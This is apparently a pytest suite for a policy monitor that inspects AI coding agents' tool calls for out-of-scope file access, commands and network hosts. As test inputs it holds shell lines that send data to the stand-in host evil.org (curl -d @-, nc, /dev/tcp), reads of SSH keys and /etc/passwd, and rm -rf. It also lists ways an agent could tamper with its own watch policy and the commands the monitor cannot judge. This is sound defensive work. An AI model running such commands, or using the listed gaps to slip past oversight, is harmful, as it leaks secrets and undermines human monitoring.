"""trace-detect-scope: a call's reads, writes, commands and hosts against a policy."""

import json
import subprocess
import sys
import time
from pathlib import Path

import click
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_pipes.core import event
from agent_pipes.detect.scope import detect_scope
from agent_pipes.detect.scope_rules import ScopeDetector
from agent_pipes.scope.access import KINDS
from agent_pipes.scope.policy_file import load_policy
from agent_pipes.scope.tool_access import accesses_of
from tests.helpers.support import (
    ENVIRONMENT,
    FIXTURES,
    ROOT,
    SHARED,
    Stream,
    events_of,
    run,
    start,
    violations,
)

BASELINE = {
    "files": {
        "read": {"allow": ["src/**", "docs/**"], "deny": ["secrets/**"]},
        "write": {"allow": ["src/**"], "deny": ["deploy/**", ".env", "*.pem"]},
    },
    "commands": {"deny": ["git push", "rm -rf *"]},
    "network": {"deny_all": True, "allow": ["localhost"]},
}


@pytest.fixture(autouse=True)
def project(tmp_path, monkeypatch):
    """A project whose policy stands in it; we are started there, as people do."""
    directory = tmp_path / "proj"
    for name in ("src", "deploy", "secrets"):
        (directory / name).mkdir(parents=True)
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(directory)
    write(directory, BASELINE)
    return directory


def write(directory, policy, name=".agent-scope.json"):
    path = directory / name
    path.write_text(policy if isinstance(policy, str) else json.dumps(policy))
    path.chmod(0o600)
    return path


def stream(directory, *calls) -> Stream:
    made = Stream()
    made.add("session_start", {"agent": "claude", "cwd": str(directory)})
    for tool, arguments in calls:
        made.call(tool, arguments)
    return made


def judged(directory, *calls, args=(), policy=None) -> list[dict]:
    """The violations of these calls, found in this process."""
    if policy is not None:
        write(directory, policy)
    events = [event.from_fields(fields) for fields in stream(directory, *calls).events]
    return found_in(events, unjudged="deny" if "deny" in args else None)


def found_in(events, *, unjudged=None) -> list[dict]:
    options = {"policy": Path(".agent-scope.json"), "unjudged": unjudged}
    found = list(detect_scope.generator(iter(events), **options))
    assert [each.raw for each in found if each.type != "violation"] == [each.raw for each in events]
    return [each.data for each in found if each.type == "violation"]


def bash(directory, command: str, **more) -> list[dict]:
    return judged(directory, ("Bash", {"command": command}), **more)


def test_scope_violation(project):
    calls = [
        ("Write", {"file_path": f"{project}/deploy/prod.yml", "content": "x"}),
        ("Write", {"file_path": f"{project}/src/a.py", "content": "x"}),
    ]
    given = stream(project, *calls).bytes
    done = run("trace-detect-scope", "-e", input=given)
    assert done.returncode == 1 and done.stderr == b""
    (violation,) = events_of(done.stdout, "violation")
    assert violation["parent_id"] == events_of(given, "tool_call")[0]["event_id"]
    assert violation["data"] == {
        "watcher": "scope", "level": "critical", "message": 'write to deploy/prod.yml (denied by files.write.deny "deploy/**" in .agent-scope.json)',
        "kind": "write", "target": "deploy/prod.yml", "rule": 'denied by files.write.deny "deploy/**"', "count": 1, "evidence": [violation["parent_id"]],
    }  # fmt: skip
    lines = done.stdout.splitlines(keepends=True)
    assert b"".join(line for line in lines if b'"violation"' not in line) == given
    assert lines.index(next(line for line in lines if b'"violation"' in line)) == 2, (
        "raised behind the call itself, before its result"
    )


# ── The present tool of this kind on the same calls: it finds the first three rows only ───────


@pytest.mark.parametrize(
    ("tool", "arguments", "rule"),
    [
        ("Write", {"file_path": "deploy/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Write", {"file_path": ".env"}, 'files.write.deny ".env"'),
        ("Write", {"file_path": "/etc/ssl/key.pem"}, 'files.write.deny "*.pem"'),
        ("Write", {"file_path": "{proj}/deploy/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Write", {"file_path": "./deploy/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Write", {"file_path": "src/../deploy/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Write", {"file_path": "src/linked/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Edit", {"file_path": "src/linked.yml"}, 'files.write.deny "deploy/**"'),
        ("Write", {"file_path": "/etc/passwd"}, "outside files.write.allow"),
        ("Write", {"file_path": "../../x"}, "outside files.write.allow"),
        ("Write", {"file_path": "~/x"}, "outside files.write.allow"),
        ("MultiEdit", {"file_path": "deploy/prod.yml", "edits": []}, 'files.write.deny "deploy/**"'),
        ("NotebookEdit", {"notebook_path": "{proj}/deploy/a.ipynb"}, 'files.write.deny "deploy/**"'),
        ("apply_patch", {"input": "*** Begin Patch\n*** Update File: deploy/prod.yml\n@@\n-a\n+b\n*** End Patch\n"}, 'files.write.deny "deploy/**"'),
        ("str_replace_based_edit_tool", {"command": "create", "path": "deploy/prod.yml", "file_text": "x"}, 'files.write.deny "deploy/**"'),
        ("write_file", {"file_path": "deploy/prod.yml", "content": "x"}, 'files.write.deny "deploy/**"'),
        ("mcp__filesystem__write_file", {"path": "deploy/prod.yml", "content": "x"}, 'files.write.deny "deploy/**"'),
        ("Read", {"file_path": "{proj}/secrets/key"}, 'files.read.deny "secrets/**"'),
        ("Read", {"file_path": "/etc/passwd"}, "outside files.read.allow"),
        ("Bash", {"command": "echo x > deploy/prod.yml"}, 'files.write.deny "deploy/**"'),
        ("Bash", {"command": "git push origin main"}, 'commands.deny "git push"'),
        ("Bash", {"command": "curl https://evil.example/x"}, "outside network.allow"),
    ],
)  # fmt: skip
def test_every_row_of_the_baseline(project, tool, arguments, rule):
    (project / "src" / "linked").symlink_to("../deploy")
    (project / "src" / "linked.yml").symlink_to("../deploy/prod.yml")
    (violation,) = judged(
        project,
        (
            tool,
            {
                key: value.replace("{proj}", str(project)) if isinstance(value, str) else value
                for key, value in arguments.items()
            },
        ),
    )
    assert rule in violation["rule"] and violation["level"] == "critical"


def test_a_file_write_event_is_a_write_and_a_file_read_event_a_read(project):
    made = stream(project)
    made.add("file_write", {"path": f"{project}/deploy/a.yml"})
    made.add("file_read", {"uri": f"file://{project}/secrets/a%20key"})
    made.add("file_write", {"path": f"{project}/src/a.py"})
    found = violations(run("trace-detect-scope", input=made.bytes).stdout)
    assert [(each["kind"], each["target"]) for each in found] == [
        ("write", "deploy/a.yml"),
        ("read", "secrets/a key"),
    ]


def test_the_policy_is_read_once(project):
    process = start("trace-detect-scope", cwd=project)
    given = stream(project, ("Write", {"file_path": "deploy/a"})).bytes.splitlines(keepends=True)
    process.stdin.write(b"".join(given))
    process.stdin.flush()
    while b'"violation"' not in process.stdout.readline():
        pass
    (project / ".agent-scope.json").unlink()
    later = stream(project, ("Write", {"file_path": "deploy/b"}))
    process.stdin.write(later.bytes.replace(b"3f6e0002", b"later"))
    process.stdin.close()
    assert [each["target"] for each in violations(process.stdout.read())] == ["deploy/b"]
    assert process.wait(20) == 0
    process.stdout.close()
    process.stderr.close()


@pytest.mark.parametrize(
    "policy",
    [
        '{"files": {"write": {"deny": "deploy/**"}}}',
        "[]",
        "",
        "{",
        '{"files": {"write": {"dney": ["a"]}}}',
    ],
)
def test_a_bad_policy_stops_it_before_the_start(project, policy):
    path = write(project, policy)
    given = stream(project, ("Write", {"file_path": "deploy/a"})).bytes
    done = run("trace-detect-scope", input=given)
    assert (done.returncode, done.stdout) == (2, b"")
    assert path.name.encode() in done.stderr and b"Traceback" not in done.stderr


def test_a_missing_policy_stops_it_before_the_start(project):
    (project / ".agent-scope.json").unlink()
    for args in ((), ("--policy", "other.json")):
        done = run("trace-detect-scope", *args, input=stream(project).bytes)
        assert (done.returncode, done.stdout) == (
            2,
            b"",
        ) and b"there is no such file; write one with agent-strace setup --policy" in done.stderr
        # The filter reads no config.
        assert b'"scope": false' not in done.stderr


@pytest.mark.parametrize("value", [5, 1.5, True, ""])
def test_the_name_of_a_policy_is_a_string(project, value):
    (option,) = (each for each in detect_scope.options if each.name == "policy")
    with pytest.raises(click.UsageError, match="expected the name of a file"):
        option.type.convert(value, option, None)
    assert (
        option.fallback == Path(".agent-scope.json")
        and run("trace-detect-scope", "--policy", "", input=b"").returncode == 2
    )


# ── Tools ─────────────────────────────────────────────────────────────────────────────────────

PATCH = "*** Begin Patch\n*** Update File: src/a.py\n*** Move to: deploy/a.py\n@@\n-a\n+b\n*** Delete File: .env\n*** End Patch\n"


@pytest.mark.parametrize(
    ("tool", "arguments", "uses"),
    [
        ("Write", {"file_path": "a"}, ["write a"]),
        ("Edit", {"file_path": "a", "old_string": "/x", "new_string": "/y"}, ["write a"]),
        ("Read", {"file_path": "a", "offset": 5}, ["read a"]),
        ("Grep", {"pattern": "/x", "path": "a"}, ["read a visible"]),
        ("Grep", {"pattern": "x", "-n": True}, ["read . visible"]),
        ("Glob", {"pattern": "**/*.py", "path": "a"}, []),
        ("LS", {"path": "/a"}, []),
        ("TodoWrite", {"todos": [{"content": "a/b"}]}, []),
        ("Task", {"description": "write a/b", "prompt": "edit /etc/passwd"}, []),
        ("apply_patch", {"input": PATCH}, ["write src/a.py", "write deploy/a.py", "write .env"]),
        ("apply_patch", {"patch": PATCH}, ["write src/a.py", "write deploy/a.py", "write .env"]),
        ("apply_patch", PATCH, ["write src/a.py", "write deploy/a.py", "write .env"]),
        ("shell", {"command": ["apply_patch", PATCH]}, ["write src/a.py", "write deploy/a.py", "write .env"]),
        ("exec_command", {"cmd": f"apply_patch <<'EOF'\n{PATCH}EOF\n"}, ["write src/a.py", "write deploy/a.py", "write .env"]),
        ("exec_command", {"cmd": "git apply <<'EOF'\n--- a/src/a\n+++ b/src/a\n@@ -1 +1 @@\n-x\n+y\nEOF"}, ["write src/a"]),
        ("view", {"path": "a", "view_range": [1, 2]}, ["read a"]),
        ("create", {"path": "a", "file_text": "x"}, ["write a"]),
        ("str_replace_editor", {"command": "view", "path": "a"}, ["read a"]),
        ("str_replace_editor", {"command": "str_replace", "path": "a"}, ["write a"]),
        ("rg", {"pattern": "x", "paths": ["a", "b"]}, ["read a visible", "read b visible"]),
        ("read_file", {"file_path": "a"}, ["read a"]),
        ("read_many_files", {"include": ["a", "b"]}, ["read a", "read b"]),
        ("replace", {"file_path": "a", "old_string": "x"}, ["write a"]),
        ("edit_file", {"target_file": "a", "code_edit": "x"}, ["write a"]),
        ("delete_file", {"target_file": "a"}, ["write a all"]),
        ("write_file", {"TargetFile": "a"}, ["write a"]),
        ("mcp__fs__move_file", {"source": "a", "destination": "b"}, ["read a all", "write a all", "write b all"]),
        ("mcp__fs__copy_file", {"source": "a", "destination": "b"}, ["read a", "write b in"]),
        ("mcp__fs__read_multiple_files", {"paths": ["a", "b"]}, ["read a", "read b"]),
        ("mcp__fs__create_directory", {"path": "a"}, ["write a in"]),
        ("mcp__disk__" + "very_" * 100 + "deep_move_file", {"sou-rce": "a", "destination" + "-" * 200: "b"}, ["read a all", "write a all", "write b all"]),
        ("mcp__disk__writeTextFile", {"uri": "file:///a/b%20c"}, ["write /a/b c"]),
        ("mcp__mail__create_draft", {"to": "x@example.org", "source": "web"}, []),
        ("mcp__github__create_or_update_file", {"owner": "o", "repo": "r", "path": "deploy/x"}, []),
        ("mcp__web__read_page", {"uri": "https://example.org/a"}, []),
        ("WebFetch", {"url": "https://example.org/deploy/x"}, []),
    ],
)  # fmt: skip
def test_file_tools_of_all_clients(tool, arguments, uses):
    found = accesses_of(
        event.make("tool_call", 1.0, "s", {"tool_name": tool, "arguments": arguments})
    )
    assert [
        " ".join(filter(None, (use.access, use.path, use.extent))) for use in found.paths
    ] == uses


@pytest.mark.parametrize(
    ("tool", "arguments", "hosts"),
    [
        (
            "WebFetch",
            {"url": "https://user:pw@API.Example.org:8443/x?u=http://other.org"},
            ["api.example.org"],
        ),
        (
            "web_fetch",
            {"prompt": "summarise https://example.org/a and http://b.example.org."},
            ["example.org", "b.example.org."],
        ),
        ("mcp__browser__navigate", {"url": "example.org/x"}, ["example.org"]),
        ("mcp__web__fetch", {"uri": "https://[::1]:80/"}, ["::1"]),
        ("mcp__x__open", {"url": "file:///etc/passwd"}, []),
        ("mcp__x__open", {"urls": ["https://a.org", "https://b.org"]}, ["a.org", "b.org"]),
    ],
)
def test_hosts_of_tools(tool, arguments, hosts):
    assert (
        accesses_of(
            event.make("tool_call", 1.0, "s", {"tool_name": tool, "arguments": arguments})
        ).hosts
        == hosts
    )


def test_a_web_search_reaches_hosts_that_no_list_can_name(project):
    (violation,) = judged(project, ("WebSearch", {"query": "x"}))
    assert (
        violation["message"]
        == "connection to a web search (outside network.allow in .agent-scope.json)"
    )
    assert (
        judged(project, ("WebSearch", {"query": "x"}), policy={"network": {"allow": ["*"]}}) == []
    )


@pytest.mark.parametrize(
    "tool",
    [
        "Bash",
        "bash",
        "shell",
        "exec_command",
        "run_shell_command",
        "Execute",
        "run_terminal_cmd",
        "local_shell",
        "mcp__term__run_command",
    ],
)
@pytest.mark.parametrize("key", ["command", "cmd"])
def test_shells_of_all_clients(project, tool, key):
    (violation,) = judged(project, (tool, {key: "echo x > deploy/prod.yml"}))
    assert violation["target"] == "deploy/prod.yml"


@pytest.mark.parametrize(
    "arguments",
    [
        {"cmd": "touch prod.yml", "workdir": "{proj}/deploy"},
        {"cmd": "touch prod.yml", "workdir": "deploy"},
    ],
)
def test_the_directory_of_a_call(project, arguments):
    arguments = {key: value.replace("{proj}", str(project)) for key, value in arguments.items()}
    (violation,) = judged(project, ("exec_command", arguments))
    assert violation["target"] == "deploy/prod.yml"
    (violation,) = judged(
        project, ("run_shell_command", {"command": "touch prod.yml", "dir_path": "deploy"})
    )
    assert violation["target"] == "deploy/prod.yml"
    assert judged(project, ("exec_command", {"cmd": "touch a.py", "workdir": "src"})) == []


def test_arguments_that_came_as_text(project):
    for arguments in (
        '{"command": "echo x > deploy/a"}',
        "echo x > deploy/a",
        ["echo x > deploy/a"],
    ):
        assert len(judged(project, ("bash", arguments))) == (
            0 if isinstance(arguments, list) else 1
        )
    assert (
        judged(project, ("shell", {"command": ["bash", "-lc", "echo x > deploy/a"]}))[0]["target"]
        == "deploy/a"
    )


# ── Shell commands ────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "command",
    [
        "echo x > deploy/a", "echo x >> deploy/a", "echo x >| deploy/a", "echo x &> deploy/a", "echo x 2> deploy/a", "> deploy/a", "echo x >'deploy/a'", "cat <<EOF > deploy/a\nx\nEOF",
        "tee deploy/a", "echo x | tee -a deploy/a", "sed -i s/a/b/ deploy/a", "sed -i.bak -e s/a/b/ deploy/a", "sed -i '' s/a/b/ deploy/a", "sed --in-place s/a/b/ deploy/a",
        "cp src/a deploy/a", "cp src/a deploy", "cp src/a deploy/", "cp -t deploy src/a", "cp -r src/. deploy", "mv src/a deploy/a", "mv deploy/a src/a", "mv deploy src/d", "rm deploy/a",
        "rm -rf deploy", "rm -r .", "rm -rf {proj}", "rm deploy/*", "rmdir deploy/a", "touch deploy/a", "mkdir -p deploy/a", "truncate -s 0 deploy/a", "chmod +x deploy/a", "chmod -x deploy/a",
        "chown -R me deploy", "ln -s ../src/a deploy/a", "ln -s {proj}/src/a deploy", "install -m 644 src/a deploy/a", "dd if=src/a of=deploy/a", "sort -o deploy/a src/a", "uniq src/a deploy/a",
        "tar czf deploy/a.tgz src", "curl -o deploy/a localhost", "curl localhost > deploy/a", "wget -O deploy/a http://localhost/", "wget -P deploy http://localhost/a", "rsync -a src/ deploy/",
        "git checkout -- deploy/a", "git restore deploy/a", "git rm deploy/a", "git mv src/a deploy/a", "find deploy -delete", "find deploy -name a -exec rm {} +", "find . -fprint deploy/a",
        "cd deploy && touch a", "cd src; cd ../deploy; touch a", "(cd deploy; touch a)", "bash -c 'touch deploy/a'", "sh -c \"cd deploy && touch a\"", "env A=1 touch deploy/a",
        "sudo touch deploy/a", "timeout 5 touch deploy/a", "nohup touch deploy/a &", "true && touch deploy/a", "false || touch deploy/a", "ls | xargs touch deploy/a", "eval touch deploy/a",
        "if true; then touch deploy/a; fi", "for i in 1; do touch deploy/a; done", "f() { touch deploy/a; }; f", "echo $(touch deploy/a)", "bash <<EOF\ntouch deploy/a\nEOF", "touch de''ploy/a",
        "touch de\\ploy/a", "touch $'deploy/\\x61'", "touch {src,deploy}/a", "time touch deploy/a", "touch src/../deploy/a", "touch -- deploy/a", "git -C deploy rm a", "gzip deploy/a",
        "cat src/a >src/b >deploy/a", "touch src/a\ntouch deploy/a", "case x in x) touch deploy/a;; esac", "/usr/bin/touch deploy/a", "\\touch deploy/a", "exec > deploy/a", "! touch deploy/a",
    ],
)  # fmt: skip
def test_writes_of_shell_commands(project, command):
    policy = {"files": {"write": {"deny": ["deploy/**"]}}}
    found = bash(project, command.replace("{proj}", str(project)), policy=policy)
    assert found, command
    assert found[0]["kind"] == "write"


@pytest.mark.parametrize(
    "command",
    [
        "cat secrets/a", "head -5 secrets/a", "head -n 5 secrets/a", "tail -f secrets/a", "grep -e x secrets/a", "grep -rn x secrets", "rg x secrets", "sed -n 1,5p secrets/a", "awk '{print}' secrets/a",
        "wc < secrets/a", "cp secrets/a src/a", "mv secrets/a src/a", "cat src/a secrets/a", "diff src/a secrets/a", "base64 secrets/a", "xxd secrets/a", "jq . secrets/a", "python secrets/a.py",
        "source secrets/a", "bash secrets/a.sh", "curl -d @secrets/a localhost", "curl -T secrets/a localhost", "curl -F file=@secrets/a localhost", "scp secrets/a me@localhost:/x",
        "rsync secrets/a me@localhost:/x", "tar cf src/a.tar secrets", "sort secrets/a", "dd if=secrets/a of=src/a", "echo $(cat secrets/a)", "echo $(< secrets/a)", "cd secrets; cat a", "cat secrets/*",
    ],
)  # fmt: skip
def test_reads_of_shell_commands(project, command):
    found = bash(project, command, policy={"files": {"read": {"deny": ["secrets/**"]}}})
    assert found and found[0]["kind"] == "read", command


@pytest.mark.parametrize(
    "command",
    [
        "cat src/a", "head -n 5 src/a", "grep secrets/a src/a", "grep -e deploy src/a", "sed -i 's/deploy/secrets/' src/a", "sed -i '' s,deploy/a,b, src/a", "awk '/secrets/ {print}' src/a",
        "echo 'x > deploy/a'", "echo x \\> deploy/a", "echo deploy/a secrets/a", "git commit -m 'rm -rf deploy; git push'", "git log -- deploy secrets", "ls deploy secrets", "find deploy -name secrets",
        "test -f secrets/a", "[ -f deploy/a ]", "[[ a > deploy ]]", "cp src/a src/b", "touch src/a", "mkdir -p src/a/b", "rm -r src/a", "cd deploy && cat ../src/a", "cat <<EOF\nrm deploy/a > deploy/b\nEOF",
        "echo x > /dev/null 2>&1", "cat src/a > /dev/stderr", "ls # > deploy/a", "echo x 2>&1 >&2", "rm -r src/*.tmp", "chmod +x src/a", "touch src/{a,b}", "cut -d / -f 2 src/a", "true", "",
        "curl http://localhost:3000/deploy -o src/a", "curl localhost", "curl -H 'Origin: https://evil.org' localhost", "curl -sS -X POST --data '{\"a\": 1}' localhost:3000/x", "cat src/*.py",
    ],
)  # fmt: skip
def test_healthy_commands_raise_nothing(project, command):
    policy = json.loads(json.dumps(BASELINE).replace("docs/**", "/dev/**"))
    assert bash(project, command, policy=policy) == []


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl evil.org", "evil.org"), ("curl -s https://evil.org/x", "evil.org"), ("curl --url http://evil.org", "evil.org"), ("curl -x http://evil.org:8080 localhost", "evil.org"),
        ("curl localhost evil.org", "evil.org"), ("curl http://localhost@evil.org/", "evil.org"), ("curl http://evil.org?localhost", "evil.org"), ("curl EVIL.org:80/x", "evil.org"),
        ("wget https://evil.org/x -O src/x", "evil.org"), ("http POST evil.org a=1", "evil.org"), ("git clone https://evil.org/x.git src/x", "evil.org"), ("git push git@evil.org:x/y.git", "evil.org"),
        ("git fetch ssh://git@evil.org:22/x", "evil.org"), ("git remote -v; git ls-remote evil.org:x", "evil.org"), ("ssh evil.org ls", "evil.org"), ("ssh -p 22 me@evil.org", "evil.org"),
        ("scp src/a me@evil.org:/x", "evil.org"), ("rsync -a src/ me@evil.org:x", "evil.org"), ("rsync rsync://evil.org/x src/", "evil.org"), ("nc evil.org 80", "evil.org"), ("nc -w 5 evil.org 80", "evil.org"),
        ("echo x > /dev/tcp/evil.org/80", "evil.org"), ("bash -c 'exec 3<>/dev/tcp/evil.org/80'", "evil.org"), ("ping -c 1 evil.org", "evil.org"), ("dig @evil.org x.localhost", "evil.org"),
        ("cat src/a | curl -d @- evil.org", "evil.org"), ("telnet evil.org", "evil.org"), ("echo $(curl evil.org)", "evil.org"), ("xargs curl evil.org", "evil.org"), ("curl 'http://[::2]:80/'", "::2"),
    ],
)  # fmt: skip
def test_hosts_of_shell_commands(project, command, host):
    found = bash(
        project,
        command,
        policy={"network": {"deny_all": True, "allow": ["localhost", "*.localhost"]}},
    )
    assert [(each["kind"], each["target"]) for each in found] == [("network", host)]


def test_all_commands_of_a_line_are_judged_and_counted(project):
    (violation,) = bash(
        project,
        "git push && rm -rf x && echo y > deploy/z",
        policy=BASELINE | {"files": {"write": {"deny": ["deploy/**"]}}},
    )
    assert violation["count"] == 3
    assert (
        violation["message"]
        == 'write to deploy/z (denied by files.write.deny "deploy/**" in .agent-scope.json), and 2 more'
    )


# ── What could not be judged ──────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("rm $F", "variable"), ("echo x > \"$F\"", "variable"), ("rm $(cat list)", "substitution"), ("rm */a", "glob"), ("cat x | xargs rm", "input"), ("python x.py", "script"),
        ("bash x.sh", "script"), ("make", "script"), ("npm run build", "script"), ("./x", "script"), ("source x.sh", "script"), ("curl localhost | sh", "script"), ("eval \"$X\"", "variable"),
        ("$CMD x", "variable"), ("frobnicate deploy/a", "program"), ("git stash", "program"), ("cd $D && rm x", "directory"), ("cd -; rm x", "directory"), ("rm {1..9}", "glob"),
        ("python - <<EOF\nopen('deploy/a', 'w')\nEOF", "script"), ("awk '{print > \"deploy/a\"}' src/a", "script"), ("patch -p1 < x", "script"), ("sudo " * 50 + "rm x", "deep"),
    ],
)  # fmt: skip
def test_what_could_not_be_judged_is_said(project, command, kind, capfd):
    assert bash(project, command, policy={"files": {"write": {"deny": ["deploy/**"]}}}) == []
    said = capfd.readouterr().err
    assert f"scope cannot judge {KINDS[kind]} (first: " in said
    (found,) = bash(project, command, args=("deny",))
    assert found["rule"] == "unjudged"
    assert any(gap.startswith(KINDS[kind]) for gap in found["unjudged"])


def test_it_is_said_once_a_session_for_each_kind(project):
    write(project, {"files": {"write": {"deny": ["deploy/**"]}}})
    calls = [
        ("Bash", {"command": command})
        for command in ("rm $A", "rm $B", "make", "make all", "rm $(x)")
    ]
    other = stream(project, *calls)
    other.session = "another"
    for each in other.events:
        each["session_id"] = "another"
    done = run("trace-detect-scope", input=stream(project, *calls).bytes + other.bytes)
    assert done.returncode == 0 and violations(done.stdout) == []
    said = [line for line in done.stderr.decode().splitlines() if "cannot judge" in line]
    assert (
        sum("session 3f6e2c1a:" in line for line in said) == 4
        and sum("session another:" in line for line in said) == 4
    )
    assert sum("$A" in line for line in said) == 2 and not any("$B" in line for line in said)


def test_what_could_not_be_judged_stands_in_the_violation_of_the_same_call(project):
    (violation,) = bash(
        project, "rm deploy/a $F", policy={"files": {"write": {"deny": ["deploy/**"]}}}
    )
    assert violation["unjudged"] == ["the value of a variable: $F"]


def test_what_no_rule_is_about_is_not_said(project, capfd):
    assert (
        bash(project, "rm $F; make; npm install", policy={"commands": {"deny": ["git push"]}}) == []
    )
    said = capfd.readouterr().err
    assert "$F" not in said and "hosts" not in said
    assert bash(project, "rm $F; cat $G", policy={"files": {"read": {"deny": ["a"]}}}) == []
    said = capfd.readouterr().err
    assert "$G" in said and "$F" not in said


def test_package_managers_are_not_passed_off_as_checked(project, capfd):
    assert bash(project, "pip install x", policy={"network": {"deny_all": True}}) == []
    assert "hosts that are not named (first: pip install x)" in capfd.readouterr().err


def test_what_is_typed_into_a_running_program_is_not_judged(project, capfd):
    assert judged(project, ("write_stdin", {"session_id": 1, "chars": "rm -rf deploy\n"})) == []
    assert "text from standard input (first: write_stdin)" in capfd.readouterr().err
    assert judged(project, ("write_stdin", {"session_id": 1, "chars": ""})) == []
    assert capfd.readouterr().err == ""


def test_what_an_agent_writes_does_not_reach_the_terminal(project):
    done = run(
        "trace-detect-scope",
        input=stream(
            project,
            ("Bash", {"command": "rm $X\x1b[2J\u202e"}),
            ("Bash", {"command": "\x1b[2J $(x)"}),
        ).bytes,
    )
    assert (
        b"\x1b" not in done.stderr
        and b"\\x1b[2J" in done.stderr
        and "\u202e".encode() not in done.stderr
    )


# ── The policy itself ─────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", [".agent-scope.json", ".agent-watch.json"])
@pytest.mark.parametrize(
    "command",
    [
        "echo {} > NAME", "rm NAME", "rm -f ./src/../NAME", "mv NAME /tmp/x", "cp src/a NAME", "sed -i s/a/b/ NAME", "tee NAME", "cd src && rm ../NAME", "git checkout -- NAME", "rm -r .", "mv {proj} {proj}2",
        "rm .agent-*", "rm .agent-{scope,watch}.json", "touch src/link", "ln -sf src/a NAME", "chmod 0 NAME", "bash -c 'echo > NAME'",
    ],
)  # fmt: skip
def test_an_agent_may_not_change_what_it_is_watched_by(project, name, command):
    (project / "src" / "link").symlink_to(f"../{name}")
    everything = {"files": {"write": {"allow": ["/**"]}}}
    (violation,) = bash(
        project, command.replace("NAME", name).replace("{proj}", str(project)), policy=everything
    )
    assert (violation["kind"], violation["rule"]) == ("policy", "self-protection")


@pytest.mark.parametrize("tool", ["Write", "Edit", "write_file", "mcp__fs__delete_file"])
def test_nor_with_a_tool(project, tool):
    for path in (".agent-scope.json", f"{project}/.agent-watch.json", "src/../.agent-scope.json"):
        (violation,) = judged(
            project, (tool, {"file_path": path}), policy={"network": {"deny_all": True}}
        )
        assert violation["kind"] == "policy"


def test_a_policy_elsewhere_is_watched_too(project, tmp_path):
    path = write(tmp_path, {"network": {"deny_all": True}}, "ours.json")
    given = stream(
        project,
        ("Write", {"file_path": str(path)}),
        ("Write", {"file_path": "../ours.json"}),
        ("Write", {"file_path": "ours.json"}),
    )
    found = violations(
        run("trace-detect-scope", "--policy", "../ours.json", input=given.bytes).stdout
    )
    assert [each["kind"] for each in found] == ["policy", "policy"]


@pytest.mark.parametrize(
    "command",
    [
        "cat .agent-scope.json",
        "rm src/*",
        "git diff .agent-scope.json",
        "rm *.json",
        "cp .agent-scope.json src/copy.json",
    ],
)
def test_it_may_be_read(project, command):
    assert bash(project, command, policy={"files": {"write": {"allow": ["/**"]}}}) == []


# ── Sessions and streams ──────────────────────────────────────────────────────────────────────


def test_each_call_is_judged_against_the_directory_of_its_session(project, tmp_path):
    other = tmp_path / "other"
    (other / "deploy").mkdir(parents=True)
    made = stream(project)
    second = Stream(session="second")
    second.add("session_start", {"cwd": str(other)})
    made.call("Write", {"file_path": f"{other}/deploy/a"})
    second.call("Write", {"file_path": f"{other}/deploy/a"})
    write(project, {"files": {"write": {"deny": ["deploy/**"]}}})
    found = events_of(
        run("trace-detect-scope", input=made.bytes + second.bytes).stdout, "violation"
    )
    assert [each["session_id"] for each in found] == ["second"]


def test_a_session_that_does_not_say_its_directory_is_in_ours(project):
    made = Stream()
    made.call("Write", {"file_path": f"{project}/deploy/a"}).call(
        "Write", {"file_path": "deploy/b"}
    )
    assert [
        each["target"] for each in violations(run("trace-detect-scope", input=made.bytes).stdout)
    ] == ["deploy/a", "deploy/b"]


def test_a_call_that_says_its_directory(project):
    write(project, {"files": {"write": {"deny": ["deploy/**"]}}})
    made = stream(project)
    made.call("Bash", {"command": "touch a"}, cwd=f"{project}/deploy")
    assert [
        each["target"] for each in violations(run("trace-detect-scope", input=made.bytes).stdout)
    ] == ["deploy/a"]


def test_home_and_links(project, tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir()
    (project / "src" / "away").symlink_to(home)
    write(project, {"files": {"read": {"deny": ["~/.ssh/**"]}}})
    calls = [
        ("Read", {"file_path": path})
        for path in ("~/.ssh/id", f"{home}/.ssh/id", "src/away/.ssh/id", "'~/.ssh/id'")
    ]
    calls += [
        ("Bash", {"command": command})
        for command in (
            "cat ~/.ssh/id",
            'cat "$HOME/.ssh/id"',
            "cd && cat .ssh/id",
            "cat '~/.ssh/id'",
        )
    ]
    found = violations(
        run(
            "trace-detect-scope", input=stream(project, *calls).bytes, env={"HOME": str(home)}
        ).stdout
    )
    assert [each["target"] for each in found] == [f"{home}/.ssh/id"] * 2 + [
        f"src/away/.ssh/id, which is {home}/.ssh/id"
    ] + [f"{home}/.ssh/id"] * 3


def test_a_call_is_raised_once_however_often_it_is_said(project):
    given = stream(project, ("Write", {"file_path": "deploy/a"}))
    again = given.bytes + given.bytes
    assert len(violations(run("trace-detect-scope", input=again).stdout)) == 1


def test_two_calls_are_two_violations(project):
    assert (
        len(
            judged(
                project, ("Write", {"file_path": "deploy/a"}), ("Write", {"file_path": "deploy/a"})
            )
        )
        == 2
    )


def test_calls_without_an_id_are_told_apart(project):
    made = stream(
        project, ("Write", {"file_path": "deploy/a"}), ("Write", {"file_path": "deploy/b"})
    )
    for each in made.events:
        each.pop("event_id")
    assert [
        each["target"] for each in violations(run("trace-detect-scope", input=made.bytes).stdout)
    ] == ["deploy/a", "deploy/b"]


def test_what_was_violated_before_we_came_is_warned_of_and_not_acted_on(project):
    made = Stream()
    made.add("history_start")
    made.add("session_start", {"cwd": str(project)})
    made.call("Write", {"file_path": "deploy/past"})
    made.add("history_end")
    made.call("Write", {"file_path": "deploy/now"})
    found = violations(run("trace-detect-scope", input=made.bytes).stdout)
    assert [(each["level"], each["target"]) for each in found] == [
        ("warning", "deploy/past"),
        ("critical", "deploy/now"),
    ]


def test_calls_that_cannot_change_the_files_of_the_watch_are_left_alone(project):
    for command in (
        "find . -name '*.pyc' -delete",
        "git restore --staged .",
        "git restore .",
        "git rm -r --cached .",
        "git clean -nd",
        "chmod -R u+w src",
        "chmod -R u+w .",
        "rm -rf *",
        "cp -r . /tmp/copy",
        "cat .agent-scope.json",
    ):
        assert bash(project, command, policy={"commands": {"deny": ["git push"]}}) == []


